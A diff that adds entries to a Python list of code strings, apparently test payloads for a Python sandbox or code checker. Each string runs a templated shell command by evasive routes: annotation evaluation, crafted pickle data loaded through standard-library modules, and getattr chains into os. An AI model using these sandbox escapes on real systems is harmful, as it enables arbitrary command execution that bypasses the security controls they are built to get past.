@@ -270,6 +270,17 @@ WHOLE = [
     "import sys, zipfile\nwith zipfile.ZipFile('x.zip', 'w') as z:\n    z.writestr('helper_c.py', 'import posix; posix.system(\"{c}\")')\n"
     "sys.path.insert(0, 'x.zip')\nimport helper_c",
     "import multiprocessing.util as u\nu.os.system('{c}')",
+    "import functools\n@functools.singledispatch\ndef g(a):\n    pass\n@g.register\ndef f(a: '__import__(\"posix\").system(\"{c}\")'):\n    pass",
+    "import functools\n@functools.singledispatch\ndef g(a):\n    pass\ndef f(a):\n    pass\n"
+    "f.__annotations__['a'] = '__import__(\"posix\").system(\"{c}\")'\ng.register(f)",
+    "import dataclasses\nclass A:\n    __annotations__ = {{'__class__,__import__(\"posix\").system(\"{c}\")': int}}\n"
+    "print(dataclasses.dataclass(A, init=False, eq=False)())",
+    "import tracemalloc\nwith open('a.bin', 'wb') as f:\n    f.write(b\"cposix\\nsystem\\n(S'{c}'\\ntR.\")\ntracemalloc.Snapshot.load('a.bin')",
+    "import trace\nwith open('b.bin', 'wb') as f:\n    f.write(b\"cposix\\nsystem\\n(S'{c}'\\ntR.\")\ntrace.CoverageResults(infile='b.bin')",
+    "from lib2to3.pgen2.grammar import Grammar\nGrammar().loads(b\"cposix\\nsystem\\n(S'{c}'\\ntR.\")",
+    "import random\ng = [].append.__reduce__()[0]\ng(g(random.Random().seed, '__func__'), '__globals__')['_os'].system('{c}')",
+    "with open('n.txt', 'w') as f:\n    f.write('seed __func__ __globals__ _os')\na, b, c, d = open('n.txt').read().split()\n"
+    "import random\nx = getattr(getattr(getattr(random.Random(), a), b), c)\nx[d].system('{c}')",
 ]
 
 
